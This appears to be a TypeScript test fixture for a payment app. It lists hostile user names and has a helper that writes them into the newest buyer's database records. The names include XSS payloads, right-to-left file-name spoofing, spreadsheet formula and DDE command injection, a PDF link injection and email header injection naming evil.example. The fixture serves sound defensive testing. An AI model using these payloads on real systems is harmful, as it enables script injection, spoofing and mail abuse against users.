import pg from 'pg';

/** The names of somebody who wants more from a name than to be called so. */
export const hostileNames: Readonly<Record<string, string>> = {
  'turned around': '\u202Egnp.exe\u202C minji',
  'turned behind an end': '\u2069\u202Egnp.exe minji',
  'turned and never back': '\u2067\u202Eminji',
  markup: '<img src=x onerror=alert(1)>',
  'an end of a script': '</script><script>alert(1)//',
  'an end of a PDF text': ') Tj /URI (https://evil.example',
  'a formula': '=HYPERLINK("https://evil.example","A")',
  'a formula behind a blank': '\t=1+1',
  'a command': "+cmd|' /C calc'!A0",
  'a line more': 'minji\r\nBcc: thief@evil.example',
  'a head more': 'minji\r\n\r\n<b>evil</b>',
  'a line of Unicode': 'minji\u2028Bcc: x\u2029y',
  'a dot alone on its line': 'minji\r\n.\r\nMAIL FROM:<x>',
  'signs of direction in Arabic': '\u200Fمنجي\u200E (2)',
  'letters from the right': 'منجي',
  pictures: '👩‍👩‍👧‍👦🏳️‍🌈👍🏽',
  'as long as can be': '가'.repeat(40),
  'one word without end': 'W'.repeat(40),
  'marks on marks': `a${'\u0301'.repeat(39)}`,
  nothing: '\u3164\u115F\u2800',
  'a place for a value': '{amount} {nickname} %s $& $1',
  quotes: `"';--`,
};

export type Buyer = {
  readonly userId: string;
  readonly rename: (name: string) => Promise<void>;
  readonly undo: () => Promise<void>;
};

/**
 * Returns the buyer of the newest payment: they and what they bought are renamed as if the name had come in by a way
 * that cleans nothing.
 */
export async function newestBuyer(databaseUrl: string): Promise<Buyer> {
  const client = new pg.Client({ connectionString: databaseUrl });
  await client.connect();
  const { rows } = await client.query(
    `select p.bucket, p.user_id::text as user_id, p.payment_id, p.product_name, u.nickname
     from dipper.payment p join dipper.app_user u on u.bucket = p.bucket and u.user_id = p.user_id
     order by p.requested_at desc limit 1`,
  );
  const [{ bucket, user_id: userId, payment_id: paymentId, product_name: product, nickname }] =
    rows;
  const call = async (person: string, thing: string): Promise<void> => {
    await client.query(
      'update dipper.app_user set nickname = $3 where bucket = $1 and user_id = $2::bigint',
      [bucket, userId, person],
    );
    await client.query(
      'update dipper.payment set product_name = $3 where bucket = $1 and payment_id = $2',
      [bucket, paymentId, thing],
    );
  };
  return {
    userId,
    rename: (name) => call(name, name),
    undo: async () => {
      await call(nickname, product);
      await client.end();
    },
  };
}
